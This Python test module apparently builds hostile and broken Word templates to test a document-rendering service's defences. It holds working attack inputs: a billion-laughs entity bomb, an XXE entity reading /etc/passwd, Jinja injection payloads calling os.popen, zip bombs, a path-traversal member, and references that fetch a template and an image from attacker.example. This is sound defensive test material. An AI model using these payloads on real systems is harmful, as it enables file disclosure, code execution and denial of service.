"""Hostile and broken .docx templates for the safety tests, built on the fly.

Ordinary templates come from :func:`tests.docx_factory.build_docx`; the rest are
made by rewriting its zip: members replaced, added or given a lying size, XML
given a document type definition, macros and outside references slipped in,
and tags broken the ways Word breaks them (across a hyperlink, a tracked
deletion, two paragraphs).
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Iterable, Mapping
from xml.sax.saxutils import escape

from tests.docx_factory import Block, build_docx, tiny_png

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
MiB = 1024 * 1024

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)

#: Templates whose rendering never ends, or needs gigabytes, or never stops
#: writing. The sandbox has no ``range`` (no globals), so loops run over
#: strings built by repetition.
RUNAWAY_LOOP = (
    '{% for i in "x" * 100000 %}{% for j in "x" * 100000 %}{% endfor %}{% endfor %}'
)
# Single operators are bounded by the environment (1,000,000 items), so the
# bombs repeat a bounded value: memory and output grow with every iteration.
MEMORY_BOMB = '{% for i in "x" * 100000 %}{{ "x" * 1000000 }}{% endfor %}'
HUGE_OUTPUT = '{% for i in "x" * 30 %}{{ "x" * 100000 }}{% endfor %}'
SSTI_PAYLOADS = (
    "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ title|attr('__class__') }}",
)


def docx(*blocks: Block, **options: object) -> bytes:
    """An ordinary template with these paragraphs and tables."""
    return build_docx(blocks, **options)  # type: ignore[arg-type]


def members(source: bytes) -> dict[str, bytes]:
    """The members of a zip, by name, in order."""
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rezip(
    source: bytes,
    *,
    replace: Mapping[str, bytes] | None = None,
    add: Iterable[tuple[str, bytes]] = (),
    remove: Iterable[str] = (),
) -> bytes:
    """``source`` with members replaced, added (names kept verbatim) or removed."""
    replace = dict(replace or {})
    dropped = set(remove)
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members(source).items():
            if name not in dropped:
                archive.writestr(name, replace.pop(name, data))
        for name, data in [*replace.items(), *add]:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return output.getvalue()


def with_content_type(source: bytes, part: str, content_type: str) -> bytes:
    """``source`` with an Override giving ``part`` this content type."""
    types = members(source)["[Content_Types].xml"].decode()
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    types = types.replace("</Types>", override + "</Types>")
    return rezip(source, replace={"[Content_Types].xml": types.encode()})


def with_relationship(
    source: bytes, rels: str, kind: str, target: str, *, external: bool = False
) -> bytes:
    """``source`` with one more relationship in the ``rels`` part."""
    existing = members(source).get(rels)
    empty = f'<?xml version="1.0"?><Relationships xmlns="{REL_NS}"></Relationships>'
    text = existing.decode() if existing else empty
    mode = ' TargetMode="External"' if external else ""
    relationship = (
        f'<Relationship Id="rId900" Type="{kind}" Target="{escape(target)}"{mode}/>'
    )
    text = text.replace("</Relationships>", relationship + "</Relationships>")
    return rezip(source, replace={rels: text.encode()})


# -- package-level attacks -------------------------------------------------------


def zip_bomb(size: int = 20 * MiB) -> bytes:
    """A template with an XML member of ``size`` blanks: it compresses ~1000×."""
    bomb = b"<a>" + b" " * (size - 7) + b"</a>"
    return rezip(docx("Hello"), add=[("word/bomb.xml", bomb)])


def too_many_members(count: int) -> bytes:
    """A template with ``count`` extra tiny XML members."""
    extra = [(f"customXml/item{100 + index}.xml", b"<a/>") for index in range(count)]
    return rezip(docx("Hello"), add=extra)


def big_members(size: int, count: int = 1) -> bytes:
    """A template with ``count`` pictures of ``size`` zero bytes (a small upload)."""
    pictures = [
        (f"word/media/image{90 + index}.png", bytes(size)) for index in range(count)
    ]
    return rezip(docx("Hello"), add=pictures)


def lying_size(size: int = 8 * MiB, claimed: int = 1000) -> bytes:
    """A member of ``size`` zero bytes whose headers claim ``claimed`` bytes."""
    source = rezip(docx("Hello"), add=[("word/media/image9.png", b"\0" * size)])
    real = struct.pack("<I", size)
    fake = struct.pack("<I", claimed)
    name = b"word/media/image9.png"
    # Patch the uncompressed size in the local header (offset 22) and the central
    # directory entry (offset 24) of that member.
    data = bytearray(source)
    local = data.find(b"PK\x03\x04")
    while local != -1:
        name_length = struct.unpack("<H", data[local + 26 : local + 28])[0]
        if data[local + 30 : local + 30 + name_length] == name:
            assert data[local + 22 : local + 26] == real
            data[local + 22 : local + 26] = fake
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack("<H", data[central + 28 : central + 30])[0]
        if data[central + 46 : central + 46 + name_length] == name:
            assert data[central + 24 : central + 28] == real
            data[central + 24 : central + 28] = fake
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def doctype_in_document() -> bytes:
    """document.xml with an internal DTD expanding entities (billion laughs)."""
    source = docx("Hello")
    document = members(source)["word/document.xml"].decode()
    body = document.split("?>", 1)[1]
    poisoned = BILLION_LAUGHS + body.replace("Hello", "&lol3;")
    return rezip(source, replace={"word/document.xml": poisoned.encode()})


def doctype_in_relationships() -> bytes:
    """word/_rels/document.xml.rels with an external entity (XXE)."""
    source = docx("Hello")
    rels = members(source)["word/_rels/document.xml.rels"].decode()
    body = rels.split("?>", 1)[1]
    poisoned = (
        '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + body.replace("styles.xml", "&xxe;")
    )
    return rezip(source, replace={"word/_rels/document.xml.rels": poisoned.encode()})


def utf7_document() -> bytes:
    """document.xml declared as UTF-7, where "+ADw-" spells "<"."""
    source = docx("Hello")
    document = members(source)["word/document.xml"].decode()
    declaration, rest = document.split("?>", 1)
    poisoned = '<?xml version="1.0" encoding="UTF-7"?>' + rest
    return rezip(source, replace={"word/document.xml": poisoned.encode()})


def path_traversal() -> bytes:
    """A template with a member named to land outside any folder it is unpacked in."""
    return rezip(docx("Hello"), add=[("../../tmp/evil.xml", b"<a/>")])


def macro_template() -> bytes:
    """A template carrying a VBA project, as a .docm does."""
    project = b"\xd0\xcf\x11\xe0 macro"
    source = rezip(docx("Hello"), add=[("word/vbaProject.bin", project)])
    source = with_content_type(
        source, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject"
    )
    return with_relationship(
        source,
        "word/_rels/document.xml.rels",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )


def program_template() -> bytes:
    """A template with an executable among its embeddings."""
    return rezip(docx("Hello"), add=[("word/embeddings/setup.exe", b"MZ\x90\x00")])


def remote_template_reference() -> bytes:
    """A template whose settings attach a template fetched from a web server."""
    return with_relationship(
        docx("Hello"),
        "word/_rels/settings.xml.rels",
        f"{R_NS}/attachedTemplate",
        "https://attacker.example/payload.dotm",
        external=True,
    )


def not_a_zip() -> bytes:
    """Plain text, named .docx."""
    return b"This is not a Word document at all.\n" * 20


def zip_without_document() -> bytes:
    """A zip with a content types list but no word/document.xml."""
    return rezip(docx("Hello"), remove=["word/document.xml"])


# -- tags broken the ways Word breaks them ---------------------------------------


def _run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'


def with_body(paragraphs: Iterable[str]) -> bytes:
    """A template whose body is these raw ``<w:p>`` elements."""
    source = docx("placeholder")
    document = members(source)["word/document.xml"].decode()
    head, rest = document.split("<w:body>", 1)
    section = rest[rest.index("<w:sectPr") :]
    body = "<w:body>" + "".join(paragraphs) + section
    return rezip(source, replace={"word/document.xml": (head + body).encode()})


def paragraph(*texts: str) -> str:
    """A paragraph of plain runs."""
    return "<w:p>" + "".join(_run(text) for text in texts) + "</w:p>"


def tag_split_by_hyperlink() -> bytes:
    """``{{ title }}`` begun inside a hyperlink and ended after it."""
    split = (
        '<w:p><w:hyperlink w:anchor="top">' + _run("See {{ ti") + "</w:hyperlink>"
        + _run("tle }} here") + "</w:p>"
    )  # fmt: skip
    return with_body([paragraph("Introduction"), split])


def tag_split_by_tracked_deletion() -> bytes:
    """``{{ title }}`` whose braces a tracked deletion separates (Word shows "{{")."""
    split = (
        "<w:p>" + _run("Title: {")
        + '<w:del w:id="1" w:author="Funder" w:date="2025-01-01T00:00:00Z">'
        + "<w:r><w:delText>x</w:delText></w:r></w:del>"
        + _run("{ title }}") + "</w:p>"
    )  # fmt: skip
    return with_body([paragraph("Introduction"), split])


def tag_across_paragraphs() -> bytes:
    """A tag that starts in one paragraph and ends in the next."""
    return with_body([paragraph("Dear {{ recipient."), paragraph("name }}, hello")])


# -- zip members the directory check refuses ---------------------------------------


def _set_flag_bits(source: bytes, name: bytes, flag: int) -> bytes:
    """``source`` with ``flag`` set in the general-purpose bits of member ``name``."""
    data = bytearray(source)
    # (signature, offset of the flags, of the name's length, of the name) in the
    # local header and in the central-directory record.
    for signature, flags, length_at, name_at in (
        (b"PK\x03\x04", 6, 26, 30),
        (b"PK\x01\x02", 8, 28, 46),
    ):
        offset = data.find(signature)
        while offset != -1:
            (length,) = struct.unpack_from("<H", data, offset + length_at)
            if data[offset + name_at : offset + name_at + length] == name:
                (bits,) = struct.unpack_from("<H", data, offset + flags)
                struct.pack_into("<H", data, offset + flags, bits | flag)
            offset = data.find(signature, offset + 4)
    return bytes(data)


def encrypted_member(
    name: str = "word/media/image7.png", add: Iterable[tuple[str, bytes]] = ()
) -> bytes:
    """A template with a member flagged as encrypted (zipfile wants a password)."""
    picture = (name, b"\x89PNG\r\n\x1a\n" + bytes(64))
    source = rezip(docx("Hello"), add=[picture, *add])
    return _set_flag_bits(source, name.encode(), 0x1)


def duplicate_member(name: str = "word/styles.xml") -> bytes:
    """A template whose zip holds ``name`` twice (which one counts is ambiguous)."""
    source = docx("Hello")
    output = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns: on purpose
        with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
            for member, data in members(source).items():
                archive.writestr(member, data)
            archive.writestr(name, b'<?xml version="1.0"?><w:styles xmlns:w="x"/>')
    return output.getvalue()


# -- outside references ------------------------------------------------------------

O_NS = "urn:schemas-microsoft-com:office:office"
V_NS = "urn:schemas-microsoft-com:vml"
A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
SVG_NS = "http://www.w3.org/2000/svg"
XLINK_NS = "http://www.w3.org/1999/xlink"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"


def replace_in(source: bytes, part: str, old: str, new: str) -> bytes:
    """``source`` with the first ``old`` in member ``part`` replaced by ``new``."""
    text = members(source)[part].decode()
    assert old in text, f"{old!r} not in {part}"
    return rezip(source, replace={part: text.replace(old, new, 1).encode()})


def attached_template(target: str) -> bytes:
    """A template whose settings attach the Word template at ``target``."""
    source = with_relationship(
        docx("Hello"), SETTINGS_RELS, f"{R_NS}/attachedTemplate", target, external=True
    )
    return replace_in(
        source,
        "word/settings.xml",
        "<w:zoom",
        '<w:attachedTemplate r:id="rId900"/><w:zoom',
    )


def relationship(
    kind: str, target: str, *, mode: str | None = None, rels: str = DOCUMENT_RELS
) -> bytes:
    """A template with one more relationship of ``kind`` (last segment) and ``mode``."""
    source = docx("Hello")
    existing = members(source)[rels].decode()
    attribute = f' TargetMode="{mode}"' if mode is not None else ""
    added = (
        f'<Relationship Id="rId900" Type="{R_NS}/{kind}" '
        f'Target="{escape(target)}"{attribute}/>'
    )
    text = existing.replace("</Relationships>", added + "</Relationships>")
    return rezip(source, replace={rels: text.encode()})


def external_hyperlink(url: str = "https://partnership.example/guide") -> bytes:
    """A template whose body links to a web page, as Word writes a hyperlink."""
    source = with_relationship(
        docx("placeholder"), DOCUMENT_RELS, f"{R_NS}/hyperlink", url, external=True
    )
    link = (
        '<w:p><w:hyperlink r:id="rId900"><w:r><w:t>the guide</w:t></w:r>'
        "</w:hyperlink></w:p>"
    )
    return replace_in(source, "word/document.xml", "<w:p>", link + "<w:p>")


def with_body_xml(body: str, source: bytes | None = None) -> bytes:
    """``source`` (an ordinary template) with ``body`` put first in its body."""
    source = source if source is not None else docx("placeholder")
    return replace_in(source, "word/document.xml", "<w:body>", "<w:body>" + body)


def alt_chunk(
    content_type: str = "text/html",
    name: str = "word/afchunk.mht",
    data: bytes = b'<html><body><img src="http://attacker.example/p.png"></body></html>',
) -> bytes:
    """A template importing ``data`` (HTML, RTF, MHT) as an altChunk on opening."""
    source = rezip(docx("placeholder"), add=[(name, data)])
    source = with_content_type(source, name, content_type)
    source = with_relationship(
        source, DOCUMENT_RELS, f"{R_NS}/aFChunk", name.removeprefix("word/")
    )
    return with_body_xml('<w:altChunk r:id="rId900"/>', source)


def field(*instructions: str, deleted: Iterable[int] = ()) -> str:
    """A paragraph holding one complex field whose code is split into these runs.

    Runs whose index is in ``deleted`` are tracked deletions (``w:delInstrText``).
    """
    gone = set(deleted)
    runs = "".join(
        (
            '<w:del w:id="9" w:author="Funder" w:date="2025-01-01T00:00:00Z"><w:r>'
            f'<w:delInstrText xml:space="preserve">{escape(text)}</w:delInstrText>'
            "</w:r></w:del>"
        )
        if index in gone
        else _instruction_run(text)
        for index, text in enumerate(instructions)
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )  # fmt: skip


def _instruction_run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{escape(text)}</w:instrText></w:r>'


def field_begin(*instructions: str) -> str:
    """The start of a field and its code, to nest another field after."""
    runs = "".join(_instruction_run(text) for text in instructions)
    return '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs


FIELD_END = (
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


def simple_field(instruction: str) -> str:
    """A paragraph holding ``<w:fldSimple w:instr="…">``."""
    return (
        f'<w:p><w:fldSimple w:instr="{escape(instruction, {chr(34): "&quot;"})}">'
        "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
    )


def svg_picture(svg: str, name: str = "word/media/image5.svg") -> bytes:
    """A template carrying the SVG picture ``svg`` as ``name`` (image/svg+xml)."""
    source = rezip(docx("placeholder"), add=[(name, svg.encode())])
    source = with_content_type(source, name, "image/svg+xml")
    return with_relationship(
        source, DOCUMENT_RELS, f"{R_NS}/image", name.removeprefix("word/")
    )


def svg(body: str) -> str:
    """An SVG document with ``body`` inside its root."""
    return (
        f'<svg xmlns="{SVG_NS}" xmlns:xlink="{XLINK_NS}" width="10" height="10">'
        f"{body}</svg>"
    )


def vml_picture(imagedata: str = 'r:id="rId900"', shape: str = "") -> bytes:
    """A template with a VML picture (``w:pict``), its imagedata's attributes given."""
    source = rezip(docx("placeholder"), add=[("word/media/image6.png", tiny_png())])
    source = with_relationship(
        source, DOCUMENT_RELS, f"{R_NS}/image", "media/image6.png"
    )
    pict = (
        '<w:p><w:r><w:pict><v:shape id="_x0000_i1025" type="#_x0000_t75" '
        f'style="width:10pt;height:10pt;position:absolute" {shape}>'
        f"<v:imagedata {imagedata}/></v:shape></w:pict></w:r></w:p>"
    )
    return with_body_xml(pict, source)


def vml_body(inner: str) -> bytes:
    """A template with a VML shape holding ``inner`` (a fill, a stroke, an object)."""
    pict = (
        '<w:p><w:r><w:pict><v:rect style="width:10pt;height:10pt">'
        f"{inner}</v:rect></w:pict></w:r></w:p>"
    )
    return with_body_xml(pict)


def in_settings(
    xml: str, part: str = "word/settings.xml", before: str = "<w:zoom"
) -> bytes:
    """A template with ``xml`` put into its settings (or web settings) part."""
    return replace_in(docx("Hello"), part, before, xml + before)
